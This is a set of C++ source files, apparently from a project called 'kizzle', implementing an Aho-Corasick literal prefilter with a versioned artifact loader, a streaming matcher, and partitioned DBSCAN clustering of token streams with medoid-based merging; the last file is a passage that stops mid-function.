
LiteralPrefilter LiteralPrefilter::load(std::span<const std::byte> blob,
                                        std::size_t* consumed) {
  // Sniff the version: v2 blobs are parsed in place (borrowed when the
  // base is aligned), v1 blobs route through the owning istream reader.
  if (blob.size() >= 8) {
    std::uint32_t version;
    std::memcpy(&version, blob.data() + 4, sizeof version);
    if (std::memcmp(blob.data(), kMagic, 4) == 0 && version == 2) {
      return parse_v2(blob, /*borrow=*/true, consumed);
    }
  }
  std::istringstream is(
      std::string(reinterpret_cast<const char*>(blob.data()), blob.size()));
  LiteralPrefilter pf = load(is);
  if (consumed != nullptr) {
    const auto pos = is.tellg();
    *consumed = pos < 0 ? blob.size() : static_cast<std::size_t>(pos);
  }
  return pf;
}

LiteralPrefilter LiteralPrefilter::load(std::istream& is) {
  // Sniff magic + version outside the checksum framing, then dispatch:
  // v1 re-seeds the legacy call-granular checksum with the bytes already
  // read; v2 slurps the length-prefixed payload and parses it owned.
  char magic[4];
  std::uint32_t version;
  is.read(magic, sizeof magic);
  is.read(reinterpret_cast<char*>(&version), sizeof version);
  if (!is) throw ArtifactError("LiteralPrefilter: truncated artifact");
  if (!std::equal(magic, magic + 4, kMagic)) {
    throw ArtifactError("LiteralPrefilter: bad magic");
  }
  if (version == 2) {
    // Read endian + pad + payload_size, then the rest of the
    // self-delimiting blob; parse_v2 re-validates everything from the
    // reassembled bytes.
    std::uint32_t endian, pad;
    std::uint64_t payload_size;
    is.read(reinterpret_cast<char*>(&endian), sizeof endian);
    is.read(reinterpret_cast<char*>(&pad), sizeof pad);
    is.read(reinterpret_cast<char*>(&payload_size), sizeof payload_size);
    if (!is) throw ArtifactError("LiteralPrefilter: truncated artifact");
    if (endian != kEndianSentinel) {
      throw ArtifactError(
          "LiteralPrefilter: artifact endianness does not match this host");
    }
    if (payload_size < kV2FixedHeader) {
      throw ArtifactError("LiteralPrefilter: implausible payload size");
    }
    // Refused before the blob below is sized by it (resource attack, not
    // a format error — see the span loader).
    if (payload_size > kMaxPayloadBytes) {
      throw ResourceError("LiteralPrefilter: implausible payload size");
    }
    std::string blob(static_cast<std::size_t>(payload_size) + 8, '\0');
    std::memcpy(blob.data(), magic, 4);
    std::memcpy(blob.data() + 4, &version, 4);
    std::memcpy(blob.data() + 8, &endian, 4);
    std::memcpy(blob.data() + 12, &pad, 4);
    std::memcpy(blob.data() + kV2SizeOffset, &payload_size, 8);
    is.read(blob.data() + 24, static_cast<std::streamsize>(blob.size() - 24));
    if (!is) throw ArtifactError("LiteralPrefilter: truncated artifact");
    return parse_v2(
        std::span<const std::byte>(
            reinterpret_cast<const std::byte*>(blob.data()), blob.size()),
        /*borrow=*/false, nullptr);
  }
  if (version != 1) {
    throw ArtifactError("LiteralPrefilter: unsupported format version " +
                             std::to_string(version));
  }

  CheckedReader r(is);
  r.absorb(magic, sizeof magic);
  r.absorb(&version, sizeof version);
  const auto endian = r.num<std::uint32_t>();
  if (endian != kEndianSentinel) {
    throw ArtifactError(
        "LiteralPrefilter: artifact endianness does not match this host");
  }

  LiteralPrefilter pf;
  pf.n_ids_ = static_cast<std::size_t>(r.num<std::uint64_t>());
  pf.id_limit_ = static_cast<std::size_t>(r.num<std::uint64_t>());
  pf.alpha_size_ = static_cast<std::size_t>(r.num<std::uint64_t>());
  // id_limit_ sizes the per-scan dedup bitmap; an implausible value must
  // fail here, not OOM the first candidates() call.
  if (pf.n_ids_ > kMaxTableElems || pf.id_limit_ > kMaxTableElems) {
    throw ResourceError("LiteralPrefilter: implausible id count");
  }
  r.bytes(pf.alpha_.data(), pf.alpha_.size() * sizeof(std::uint16_t));
  std::vector<std::int32_t> next, out_link, out_begin, out_end;
  std::vector<std::size_t> out_ids;
  r.i32s(next);
  r.i32s(out_link);
  r.i32s(out_begin);
  r.i32s(out_end);
  r.u64s(out_ids);
  r.u64s(pf.fallback_raw_);
  pf.next_.reset(std::move(next));
  pf.out_link_.reset(std::move(out_link));
  pf.out_begin_.reset(std::move(out_begin));
  pf.out_end_.reset(std::move(out_end));
  pf.out_ids_.reset(std::move(out_ids));
  const std::uint64_t n_keywords = r.count();
  pf.keywords_.resize(static_cast<std::size_t>(n_keywords));
  for (Keyword& kw : pf.keywords_) {
    kw.id = static_cast<std::size_t>(r.num<std::uint64_t>());
    const std::uint64_t len = r.count();
    kw.literal.resize(static_cast<std::size_t>(len));
    if (len > 0) r.bytes(kw.literal.data(), kw.literal.size());
  }
  r.verify_checksum();

  pf.validate_loaded();
  return pf;
}

// --------------------------- StreamingMatcher ---------------------------

StreamingMatcher::StreamingMatcher(const LiteralPrefilter& prefilter)
    : pf_(&prefilter) {
  if (!prefilter.built()) {
    throw std::logic_error("StreamingMatcher: prefilter not built");
  }
  seen_.assign(pf_->id_limit_, 0);
}

void StreamingMatcher::feed(std::string_view chunk) {
  bytes_fed_ += chunk.size();
  if (pf_->n_automaton_ids_ == 0 || pf_->alpha_size_ == 0 ||
      n_seen_ == pf_->n_automaton_ids_) {
    return;  // nothing to find (or everything already found)
  }
  if (pf_->use_teddy()) {
    if (pf_->n_dense_shards_ > 0 && !pf_->teddy_dense_) {
      // Hybrid route: dense-shard literals never enter the Teddy window.
      // The sub-automaton is resumable (dense_state_ carries across
      // chunks), so it scans each chunk exactly once with no carry tail.
      n_seen_ = LiteralPrefilter::ac_walk(pf_->dense_, chunk, dense_state_,
                                          seen_, found_, n_seen_,
                                          pf_->n_automaton_ids_);
    }
    feed_teddy(chunk);
    return;
  }
  const auto& alpha = pf_->alpha_;
  const std::size_t alpha_size = pf_->alpha_size_;
  // Hoisted once per chunk, as in candidates_into: the tables may be
  // owned or borrowed and the ownership branch stays out of the loop.
  const std::int32_t* const next = pf_->next_.data();
  const std::int32_t* const out_link = pf_->out_link_.data();
  const std::int32_t* const out_begin = pf_->out_begin_.data();
  const std::int32_t* const out_end = pf_->out_end_.data();
  const std::size_t* const out_ids = pf_->out_ids_.data();
  std::int32_t state = state_;
  for (const char ch : chunk) {
    const std::uint16_t code = alpha[static_cast<unsigned char>(ch)];
    if (code == LiteralPrefilter::kNoCode) {
      state = 0;
      continue;
    }
    state = next[static_cast<std::size_t>(state) * alpha_size + code];
    for (std::int32_t s = state; s != kNone;
         s = out_link[static_cast<std::size_t>(s)]) {
      if (out_begin[static_cast<std::size_t>(s)] ==
          out_end[static_cast<std::size_t>(s)]) {
        continue;
      }
      for (std::int32_t i = out_begin[static_cast<std::size_t>(s)];
           i < out_end[static_cast<std::size_t>(s)]; ++i) {
        const std::size_t id = out_ids[static_cast<std::size_t>(i)];
        if (!seen_[id]) {
          seen_[id] = 1;
          found_.push_back(id);
          ++n_seen_;
        }
      }
    }
    if (n_seen_ == pf_->n_automaton_ids_) break;  // carry on counting bytes
  }
  state_ = state;
}

void StreamingMatcher::feed_teddy(std::string_view chunk) {
  // Unscanned bytes accumulate in window_ and are scanned in batches: the
  // carried tail (longest-literal−1 bytes of already-scanned text) is
  // rescanned on every flush, so flushing per feed would make tiny chunks
  // pay up to tail/chunk-size redundant work. Deferring until a multiple
  // of the tail has arrived caps the overhead at ~25% regardless of how
  // the stream is diced; finish_into() flushes the remainder.
  const std::size_t keep = pf_->teddy_->max_literal_len() - 1;
  const std::size_t flush_at = std::max<std::size_t>(256, 4 * keep);
  // The window is also kept under Teddy's 32-bit position space no matter
  // how large one chunk is.
  constexpr std::size_t kSlice = std::size_t{1} << 30;
  while (!chunk.empty() && n_seen_ < pf_->n_automaton_ids_) {
    if (window_.size() >= kSlice) {
      scan_window();  // trims the window back to the carry tail
      continue;
    }
    const std::size_t take = std::min(chunk.size(), kSlice - window_.size());
    window_.append(chunk.substr(0, take));
    chunk.remove_prefix(take);
    pending_ += take;
    if (pending_ >= flush_at) scan_window();
  }
}

void StreamingMatcher::scan_window() {
  pending_ = 0;
  if (n_seen_ == pf_->n_automaton_ids_) return;
  const teddy::PlanSet& plans = *pf_->teddy_;
  // Every literal occurrence ending in the unscanned suffix starts inside
  // the window (the carry tail in front of it is longest-literal−1 bytes,
  // the maximum over ALL shards — a shard's own literals may be shorter,
  // but scanning a longer tail only re-confirms ids the seen_ bitmap
  // already holds); occurrences wholly inside the tail were confirmed by
  // the previous flush.
  n_seen_ = plans.find(window_, hits_, seen_, found_, n_seen_,
                       pf_->n_automaton_ids_, nullptr, nullptr,
                       pf_->n_dense_shards_ > 0 && !pf_->teddy_dense_
                           ? &pf_->dense_shard_
                           : nullptr);
  const std::size_t keep = plans.max_literal_len() - 1;
  if (window_.size() > keep) window_.erase(0, window_.size() - keep);
}

void StreamingMatcher::finish_into(std::vector<std::size_t>& out) {
  // Flush any deferred Teddy bytes first so the snapshot reflects every
  // fed chunk.
  if (pending_ > 0) scan_window();
  // Snapshot semantics: found_ keeps its discovery order so feeding can
  // continue after a finish(); the sorted merge happens on the copy.
  out = found_;
  std::sort(out.begin(), out.end());
  merge_fallback(out, pf_->fallback_);
}

std::vector<std::size_t> StreamingMatcher::finish() {
  std::vector<std::size_t> out;
  finish_into(out);
  return out;
}

void StreamingMatcher::reset() {
  state_ = 0;
  dense_state_ = 0;
  bytes_fed_ = 0;
  n_seen_ = 0;
  std::fill(seen_.begin(), seen_.end(), 0);
  found_.clear();
  window_.clear();
  pending_ = 0;
}

void StreamingMatcher::rebind(const LiteralPrefilter& prefilter) {
  if (!prefilter.built()) {
    throw std::logic_error("StreamingMatcher: prefilter not built");
  }
  pf_ = &prefilter;
  state_ = 0;
  dense_state_ = 0;
  bytes_fed_ = 0;
  n_seen_ = 0;
  // assign() both sizes the bitmap for the new automaton and zeroes it; a
  // same-capacity rebind touches no heap.
  seen_.assign(pf_->id_limit_, 0);
  found_.clear();
  window_.clear();
  pending_ = 0;
}

}  // namespace kizzle::match
