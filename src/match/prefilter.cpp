#include "match/prefilter.h"

#include <algorithm>
#include <queue>
#include <stdexcept>

namespace kizzle::match {

namespace {
constexpr std::int32_t kNone = -1;
}

void LiteralPrefilter::add(std::size_t id, std::string_view literal) {
  if (literal.empty()) {
    fallback_.push_back(id);
  } else {
    keywords_.push_back(Keyword{std::string(literal), id});
  }
  ++n_ids_;
  id_limit_ = std::max(id_limit_, id + 1);
  built_ = false;
}

void LiteralPrefilter::build() {
  // Reduced alphabet: one column per byte value that occurs in a literal.
  alpha_.fill(kNoCode);
  alpha_size_ = 0;
  for (const Keyword& kw : keywords_) {
    for (char c : kw.literal) {
      const auto b = static_cast<unsigned char>(c);
      if (alpha_[b] == kNoCode) {
        alpha_[b] = static_cast<std::uint16_t>(alpha_size_++);
      }
    }
  }

  // Trie of keywords over the reduced alphabet.
  next_.assign(alpha_size_, kNone);  // state 0 = root
  std::vector<std::vector<std::size_t>> outputs(1);
  auto n_states = [&] { return next_.size() / std::max<std::size_t>(alpha_size_, 1); };
  for (const Keyword& kw : keywords_) {
    std::int32_t state = 0;
    for (char c : kw.literal) {
      const std::uint16_t code = alpha_[static_cast<unsigned char>(c)];
      const std::size_t slot =
          static_cast<std::size_t>(state) * alpha_size_ + code;
      if (next_[slot] == kNone) {
        const auto fresh = static_cast<std::int32_t>(n_states());
        next_.resize(next_.size() + alpha_size_, kNone);  // may reallocate
        next_[slot] = fresh;
        outputs.emplace_back();
      }
      state = next_[slot];
    }
    outputs[static_cast<std::size_t>(state)].push_back(kw.id);
  }

  // BFS: compute fail links, convert goto to a full DFA over the reduced
  // alphabet, and resolve each state's nearest output-bearing suffix.
  const std::size_t total = n_states();
  std::vector<std::int32_t> fail(total, 0);
  out_link_.assign(total, kNone);
  std::queue<std::int32_t> bfs;
  for (std::size_t c = 0; c < alpha_size_; ++c) {
    std::int32_t& slot = next_[c];
    if (slot == kNone) {
      slot = 0;
    } else {
      bfs.push(slot);
    }
  }
  while (!bfs.empty()) {
    const std::int32_t s = bfs.front();
    bfs.pop();
    const std::int32_t f = fail[static_cast<std::size_t>(s)];
    out_link_[static_cast<std::size_t>(s)] =
        outputs[static_cast<std::size_t>(f)].empty()
            ? out_link_[static_cast<std::size_t>(f)]
            : f;
    for (std::size_t c = 0; c < alpha_size_; ++c) {
      std::int32_t& slot = next_[static_cast<std::size_t>(s) * alpha_size_ + c];
      const std::int32_t via_fail = next_[static_cast<std::size_t>(f) * alpha_size_ + c];
      if (slot == kNone) {
        slot = via_fail;
      } else {
        fail[static_cast<std::size_t>(slot)] = via_fail;
        bfs.push(slot);
      }
    }
  }

  // Flatten per-state output lists.
  out_begin_.assign(total, 0);
  out_end_.assign(total, 0);
  out_ids_.clear();
  for (std::size_t s = 0; s < total; ++s) {
    out_begin_[s] = static_cast<std::int32_t>(out_ids_.size());
    out_ids_.insert(out_ids_.end(), outputs[s].begin(), outputs[s].end());
    out_end_[s] = static_cast<std::int32_t>(out_ids_.size());
  }

  std::sort(fallback_.begin(), fallback_.end());
  fallback_.erase(std::unique(fallback_.begin(), fallback_.end()),
                  fallback_.end());
  built_ = true;
}

std::vector<std::size_t> LiteralPrefilter::candidates(
    std::string_view text) const {
  std::vector<std::size_t> out;
  candidates_into(text, out);
  return out;
}

void LiteralPrefilter::candidates_into(std::string_view text,
                                       std::vector<std::size_t>& out) const {
  if (!built_) {
    throw std::logic_error("LiteralPrefilter: candidates before build()");
  }
  out.clear();
  const std::size_t n_automaton = n_ids_ - fallback_.size();
  if (n_automaton == 0 || alpha_size_ == 0) {
    out = fallback_;
    return;
  }

  // Reused across calls (per thread) — this runs once per scanned sample,
  // and a fresh zeroed vector per call was the scan path's last
  // avoidable allocation.
  thread_local std::vector<std::uint8_t> seen;
  seen.assign(id_limit_, 0);
  std::size_t n_seen = 0;
  std::int32_t state = 0;
  for (const char ch : text) {
    const std::uint16_t code = alpha_[static_cast<unsigned char>(ch)];
    if (code == kNoCode) {
      state = 0;
      continue;
    }
    state = next_[static_cast<std::size_t>(state) * alpha_size_ + code];
    for (std::int32_t s = state; s != kNone;
         s = out_link_[static_cast<std::size_t>(s)]) {
      if (out_begin_[static_cast<std::size_t>(s)] ==
          out_end_[static_cast<std::size_t>(s)]) {
        continue;  // root (or a pure-prefix state reached directly)
      }
      for (std::int32_t i = out_begin_[static_cast<std::size_t>(s)];
           i < out_end_[static_cast<std::size_t>(s)]; ++i) {
        const std::size_t id = out_ids_[static_cast<std::size_t>(i)];
        if (!seen[id]) {
          seen[id] = 1;
          out.push_back(id);
          ++n_seen;
        }
      }
    }
    if (n_seen == n_automaton) break;  // every filtered id already found
  }

  std::sort(out.begin(), out.end());
  // Merge in the (sorted, deduped) fallback ids.
  const std::size_t mid = out.size();
  out.insert(out.end(), fallback_.begin(), fallback_.end());
  std::inplace_merge(out.begin(), out.begin() + static_cast<std::ptrdiff_t>(mid),
                     out.end());
}

}  // namespace kizzle::match
