#include "cluster/partitioned.h"

#include <algorithm>
#include <chrono>
#include <mutex>
#include <numeric>

#include "support/thread_pool.h"

namespace kizzle::cluster {

namespace {

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
      .count();
}

// Union-find over cluster indices for the reduce merge.
class UnionFind {
 public:
  explicit UnionFind(std::size_t n) : parent_(n) {
    std::iota(parent_.begin(), parent_.end(), 0);
  }
  std::size_t find(std::size_t x) {
    while (parent_[x] != x) {
      parent_[x] = parent_[parent_[x]];
      x = parent_[x];
    }
    return x;
  }
  void unite(std::size_t a, std::size_t b) { parent_[find(a)] = find(b); }

 private:
  std::vector<std::size_t> parent_;
};

}  // namespace

PartitionedClusterer::PartitionedClusterer(PartitionedParams params)
    : params_(params) {
  if (params_.partitions == 0) params_.partitions = 1;
}

std::size_t PartitionedClusterer::medoid(
    std::span<const std::vector<std::uint32_t>> streams,
    const std::vector<std::size_t>& cluster) {
  if (cluster.size() == 1) return cluster[0];
  // Exact medoid is O(m^2); cap the candidate set for very large clusters.
  constexpr std::size_t kCap = 24;
  const std::size_t m = std::min(cluster.size(), kCap);
  double best_total = 0.0;
  std::size_t best = cluster[0];
  for (std::size_t ci = 0; ci < m; ++ci) {
    double total = 0.0;
    for (std::size_t cj = 0; cj < m; ++cj) {
      if (ci == cj) continue;
      total += dist::normalized_edit_distance(streams[cluster[ci]],
                                              streams[cluster[cj]]);
      ++stats_.reduce.dp_computations;
    }
    if (ci == 0 || total < best_total) {
      best_total = total;
      best = cluster[ci];
    }
  }
  return best;
}

ClusterSet PartitionedClusterer::run(
    std::span<const std::vector<std::uint32_t>> streams,
    std::span<const std::size_t> weights, Rng& rng) {
  stats_ = PipelineStats{};
  const std::size_t n = streams.size();
  ClusterSet result;
  if (n == 0) return result;

  // ---- Partition (random assignment, as in the paper). ----
  const std::size_t P = std::min(params_.partitions, n);
  std::vector<std::vector<std::size_t>> partition(P);
  for (std::size_t i = 0; i < n; ++i) {
    partition[rng.index(P)].push_back(i);
  }

  // ---- Map: per-partition weighted DBSCAN on a thread pool. ----
  const auto t_map = std::chrono::steady_clock::now();
  std::vector<std::vector<std::vector<std::size_t>>> partition_clusters(P);
  std::vector<std::vector<std::size_t>> partition_noise(P);
  std::vector<DbscanStats> partition_stats(P);
  {
    ThreadPool pool(params_.threads);
    pool.parallel_for(P, [&](std::size_t p) {
      const auto& idx = partition[p];
      if (idx.empty()) return;
      std::vector<std::vector<std::uint32_t>> local;
      std::vector<std::size_t> local_weights;
      local.reserve(idx.size());
      for (std::size_t i : idx) {
        local.push_back(streams[i]);
        local_weights.push_back(weights.empty() ? 1 : weights[i]);
      }
      TokenDbscan db(local, local_weights, params_.dbscan);
      DbscanResult r = db.run();
      partition_stats[p] = db.stats();
      auto members = r.members();
      for (auto& cluster : members) {
        std::vector<std::size_t> global;
        global.reserve(cluster.size());
        for (std::size_t local_i : cluster) global.push_back(idx[local_i]);
        partition_clusters[p].push_back(std::move(global));
      }
      for (std::size_t local_i = 0; local_i < idx.size(); ++local_i) {
        if (r.label[local_i] == kNoise) {
          partition_noise[p].push_back(idx[local_i]);
        }
      }
    });
  }
  stats_.map_seconds = seconds_since(t_map);
  for (const auto& s : partition_stats) {
    stats_.map.pairs_considered += s.pairs_considered;
    stats_.map.pairs_pruned_length += s.pairs_pruned_length;
    stats_.map.pairs_pruned_histogram += s.pairs_pruned_histogram;
    stats_.map.dp_computations += s.dp_computations;
  }

  // ---- Reduce: merge per-partition clusters via medoid distance. ----
  const auto t_reduce = std::chrono::steady_clock::now();
  std::vector<std::vector<std::size_t>> all_clusters;
  for (auto& pc : partition_clusters) {
    for (auto& c : pc) all_clusters.push_back(std::move(c));
  }
  stats_.clusters_before_merge = all_clusters.size();

  std::vector<std::size_t> medoids(all_clusters.size());
  for (std::size_t c = 0; c < all_clusters.size(); ++c) {
    medoids[c] = medoid(streams, all_clusters[c]);
  }
  UnionFind uf(all_clusters.size());
  for (std::size_t a = 0; a < all_clusters.size(); ++a) {
    for (std::size_t b = a + 1; b < all_clusters.size(); ++b) {
      ++stats_.reduce.pairs_considered;
      const auto& sa = streams[medoids[a]];
      const auto& sb = streams[medoids[b]];
      const std::size_t longest = std::max(sa.size(), sb.size());
      const auto limit = static_cast<std::size_t>(
          params_.dbscan.eps * static_cast<double>(longest));
      const std::size_t diff =
          (sa.size() > sb.size()) ? sa.size() - sb.size() : sb.size() - sa.size();
      if (diff > limit) {
        ++stats_.reduce.pairs_pruned_length;
        continue;
      }
      ++stats_.reduce.dp_computations;
      if (dist::edit_distance_bounded(sa, sb, limit) <= limit) {
        uf.unite(a, b);
      }
    }
  }
  std::vector<std::vector<std::size_t>> merged(all_clusters.size());
  for (std::size_t c = 0; c < all_clusters.size(); ++c) {
    auto& target = merged[uf.find(c)];
    target.insert(target.end(), all_clusters[c].begin(),
                  all_clusters[c].end());
  }
  for (auto& c : merged) {
    if (!c.empty()) result.clusters.push_back(std::move(c));
  }
  stats_.clusters_after_merge = result.clusters.size();
  for (const auto& pn : partition_noise) {
    result.noise.insert(result.noise.end(), pn.begin(), pn.end());
  }
  stats_.reduce_seconds = seconds_since(t_reduce);
  return result;
}

}  // namespace kizzle::cluster
