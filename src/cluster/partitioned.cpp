#include "cluster/partitioned.h"

#include <algorithm>
#include <chrono>
#include <memory>
#include <numeric>
#include <optional>

#include "distance/bitparallel.h"
#include "support/thread_pool.h"

namespace kizzle::cluster {

namespace {

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
      .count();
}

// Union-find over cluster indices for the reduce merge.
class UnionFind {
 public:
  explicit UnionFind(std::size_t n) : parent_(n) {
    std::iota(parent_.begin(), parent_.end(), 0);
  }
  std::size_t find(std::size_t x) {
    while (parent_[x] != x) {
      parent_[x] = parent_[parent_[x]];
      x = parent_[x];
    }
    return x;
  }
  void unite(std::size_t a, std::size_t b) { parent_[find(a)] = find(b); }

 private:
  std::vector<std::size_t> parent_;
};

// Medoid of a cluster: the member minimizing total normalized distance to
// the other members (exact for small clusters, sampled for large ones).
// Pure function of the cluster, so one pool task per cluster is safe; DP
// work is reported through dp_count.
std::size_t medoid_of(std::span<const std::vector<std::uint32_t>> streams,
                      const std::vector<std::size_t>& cluster,
                      std::size_t& dp_count) {
  if (cluster.size() == 1) return cluster[0];
  // Exact medoid is O(m^2); cap the candidate set for very large clusters.
  // The distance matrix is symmetric: each pair is DP'd once, with one
  // bit-parallel matcher per left endpoint.
  constexpr std::size_t kCap = 24;
  const std::size_t m = std::min(cluster.size(), kCap);
  std::vector<double> total(m, 0.0);
  for (std::size_t ci = 0; ci < m; ++ci) {
    const auto& a = streams[cluster[ci]];
    const dist::BitMatcher matcher{std::span<const std::uint32_t>(a)};
    for (std::size_t cj = ci + 1; cj < m; ++cj) {
      const auto& b = streams[cluster[cj]];
      const std::size_t longest = std::max(a.size(), b.size());
      double d = 0.0;
      if (longest > 0) {
        // limit == longest never clamps, so this is the exact
        // normalized distance.
        const std::size_t raw =
            matcher.ok() ? matcher.bounded(b, longest)
                         : dist::edit_distance_bounded_reference(a, b, longest);
        d = static_cast<double>(raw) / static_cast<double>(longest);
      }
      ++dp_count;
      total[ci] += d;
      total[cj] += d;
    }
  }
  std::size_t best = 0;
  for (std::size_t ci = 1; ci < m; ++ci) {
    if (total[ci] < total[best]) best = ci;
  }
  return cluster[best];
}

}  // namespace

PartitionedClusterer::PartitionedClusterer(PartitionedParams params)
    : params_(params) {
  if (params_.partitions == 0) params_.partitions = 1;
}

ClusterSet PartitionedClusterer::run(
    std::span<const std::vector<std::uint32_t>> streams,
    std::span<const std::size_t> weights, Rng& rng) {
  stats_ = PipelineStats{};
  const std::size_t n = streams.size();
  ClusterSet result;
  if (n == 0) return result;

  std::unique_ptr<ThreadPool> owned_pool;
  ThreadPool* pool = params_.pool;
  if (pool == nullptr) {
    owned_pool = std::make_unique<ThreadPool>(params_.threads);
    pool = owned_pool.get();
  }

  // ---- Partition (random assignment, as in the paper). ----
  const std::size_t P = std::min(params_.partitions, n);
  std::vector<std::vector<std::size_t>> partition(P);
  for (std::size_t i = 0; i < n; ++i) {
    partition[rng.index(P)].push_back(i);
  }

  // ---- Map: per-partition weighted DBSCAN on the pool. ----
  const auto t_map = std::chrono::steady_clock::now();
  std::vector<std::vector<std::vector<std::size_t>>> partition_clusters(P);
  std::vector<std::vector<std::size_t>> partition_noise(P);
  std::vector<DbscanStats> partition_stats(P);
  auto map_partition = [&](std::size_t p, ThreadPool* inner_pool) {
    const auto& idx = partition[p];
    if (idx.empty()) return;
    std::vector<std::vector<std::uint32_t>> local;
    std::vector<std::size_t> local_weights;
    local.reserve(idx.size());
    for (std::size_t i : idx) {
      local.push_back(streams[i]);
      local_weights.push_back(weights.empty() ? 1 : weights[i]);
    }
    TokenDbscan db(local, local_weights, params_.dbscan, inner_pool);
    DbscanResult r = db.run();
    partition_stats[p] = db.stats();
    auto members = r.members();
    for (auto& cluster : members) {
      std::vector<std::size_t> global;
      global.reserve(cluster.size());
      for (std::size_t local_i : cluster) global.push_back(idx[local_i]);
      partition_clusters[p].push_back(std::move(global));
    }
    for (std::size_t local_i = 0; local_i < idx.size(); ++local_i) {
      if (r.label[local_i] == kNoise) {
        partition_noise[p].push_back(idx[local_i]);
      }
    }
  };
  if (P < pool->size()) {
    // Fewer partitions than workers: partition-level fan-out alone would
    // idle most of the pool, so run partitions sequentially on the
    // caller's thread and hand the pool to each inner graph build. (The
    // pool must never be passed into a task running *on* the pool:
    // wait() from a worker deadlocks.)
    for (std::size_t p = 0; p < P; ++p) map_partition(p, pool);
  } else {
    // Partitions saturate the pool; the inner graph builds stay serial.
    pool->parallel_for(P, [&](std::size_t p) { map_partition(p, nullptr); });
  }
  stats_.map_seconds = seconds_since(t_map);
  for (const auto& s : partition_stats) {
    stats_.map.pairs_considered += s.pairs_considered;
    stats_.map.pairs_pruned_length += s.pairs_pruned_length;
    stats_.map.pairs_pruned_histogram += s.pairs_pruned_histogram;
    stats_.map.pairs_pruned_sketch += s.pairs_pruned_sketch;
    stats_.map.dp_computations += s.dp_computations;
    stats_.map.graph_seconds += s.graph_seconds;
  }

  // ---- Reduce: merge per-partition clusters via medoid distance. ----
  const auto t_reduce = std::chrono::steady_clock::now();
  std::vector<std::vector<std::size_t>> all_clusters;
  for (auto& pc : partition_clusters) {
    for (auto& c : pc) all_clusters.push_back(std::move(c));
  }
  const std::size_t C = all_clusters.size();
  stats_.clusters_before_merge = C;

  // Medoid selection: one pool task per cluster.
  std::vector<std::size_t> medoids(C);
  std::vector<std::size_t> medoid_dps(C, 0);
  pool->parallel_for(C, [&](std::size_t c) {
    medoids[c] = medoid_of(streams, all_clusters[c], medoid_dps[c]);
  });
  for (std::size_t d : medoid_dps) stats_.reduce.dp_computations += d;

  // Merge scan: each left endpoint is one task; decisions are pure
  // distance predicates, so thread count cannot change the edge set.
  struct MergeState {
    std::vector<std::pair<std::size_t, std::size_t>> edges;
    std::size_t considered = 0;
    std::size_t pruned_length = 0;
    std::size_t dps = 0;
  };
  std::vector<MergeState> merge_state(C);
  pool->parallel_for(C, [&](std::size_t a) {
    MergeState& ms = merge_state[a];
    const auto& sa = streams[medoids[a]];
    std::optional<dist::BitMatcher> matcher;  // reused across all b
    for (std::size_t b = a + 1; b < C; ++b) {
      ++ms.considered;
      const auto& sb = streams[medoids[b]];
      const std::size_t longest = std::max(sa.size(), sb.size());
      if (longest == 0) {  // both medoids empty: distance 0
        ms.edges.emplace_back(a, b);
        continue;
      }
      const std::size_t limit =
          dist::normalized_limit(params_.dbscan.eps, longest);
      const std::size_t diff = (sa.size() > sb.size())
                                   ? sa.size() - sb.size()
                                   : sb.size() - sa.size();
      if (diff > limit) {
        ++ms.pruned_length;
        continue;
      }
      ++ms.dps;
      std::size_t d;
      if (!matcher) matcher.emplace(std::span<const std::uint32_t>(sa));
      if (matcher->ok()) {
        d = matcher->bounded(sb, limit);
      } else {
        d = dist::edit_distance_bounded_reference(sa, sb, limit);
      }
      if (d <= limit) ms.edges.emplace_back(a, b);
    }
  });

  UnionFind uf(C);
  for (const MergeState& ms : merge_state) {
    stats_.reduce.pairs_considered += ms.considered;
    stats_.reduce.pairs_pruned_length += ms.pruned_length;
    stats_.reduce.dp_computations += ms.dps;
    for (const auto& [a, b] : ms.edges) uf.unite(a, b);
  }
  std::vector<std::vector<std::size_t>> merged(C);
  for (std::size_t c = 0; c < C; ++c) {
    auto& target = merged[uf.find(c)];
    target.insert(target.end(), all_clusters[c].begin(),
                  all_clusters[c].end());
  }
  for (auto& c : merged) {
    if (!c.empty()) result.clusters.push_back(std::move(c));
  }
  stats_.clusters_after_merge = result.clusters.size();
  for (const auto& pn : partition_noise) {
    result.noise.insert(result.noise.end(), pn.begin(), pn.end());
  }
  stats_.reduce_seconds = seconds_since(t_reduce);
  return result;
}

}  // namespace kizzle::cluster
