#include "cluster/dbscan.h"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <deque>
#include <numeric>
#include <optional>
#include <stdexcept>
#include <thread>
#include <utility>

#include "distance/bitparallel.h"
#include "support/thread_pool.h"

namespace kizzle::cluster {

namespace {

// Winnow parameters of the sketch pruning tier. Small k and window keep the
// sketch_rules_out floor (see winnow.h) tight enough to fire at eps = 0.10:
// with t = k + window - 1 = 7 the tier rejects pairs whose overlap falls
// below ~(0.9 - 0.6) * longest / window, i.e. same-histogram streams whose
// token *order* differs.
constexpr winnow::Params kSketchParams{.k = 4, .window = 4};

// The sketch tier is a cost trade: an intersection of ~0.4 * len sorted
// fingerprints (plus a once-per-point winnowing pass) against a bit-parallel
// DP of ceil(la / 64) * lb word-steps. Below this many word-steps the DP is
// cheaper than consulting the sketch, so the tier is skipped outright.
constexpr std::size_t kSketchMinDpWork = 4096;

}  // namespace

std::vector<std::vector<std::size_t>> DbscanResult::members() const {
  std::vector<std::vector<std::size_t>> out(
      static_cast<std::size_t>(n_clusters));
  for (std::size_t i = 0; i < label.size(); ++i) {
    if (label[i] != kNoise) {
      out[static_cast<std::size_t>(label[i])].push_back(i);
    }
  }
  return out;
}

namespace {

// Shared DBSCAN skeleton. `region_query(p)` returns all points within eps of
// p, *including p itself*.
DbscanResult run_dbscan(
    std::size_t n, std::span<const std::size_t> weights,
    std::size_t min_mass,
    const std::function<std::vector<std::size_t>(std::size_t)>& region_query) {
  DbscanResult result;
  result.label.assign(n, kNoise);
  std::vector<bool> visited(n, false);
  // Once a point has been enqueued it is guaranteed to be popped, claimed,
  // and (if core) expanded before the cluster finishes, so it never needs
  // to be enqueued again — without this flag dense clusters push the same
  // point once per core neighbor and the frontier blows up quadratically.
  std::vector<bool> enqueued(n, false);
  auto mass_of = [&](const std::vector<std::size_t>& pts) {
    std::size_t m = 0;
    for (std::size_t q : pts) m += weights.empty() ? 1 : weights[q];
    return m;
  };
  int next_cluster = 0;
  for (std::size_t p = 0; p < n; ++p) {
    if (visited[p]) continue;
    visited[p] = true;
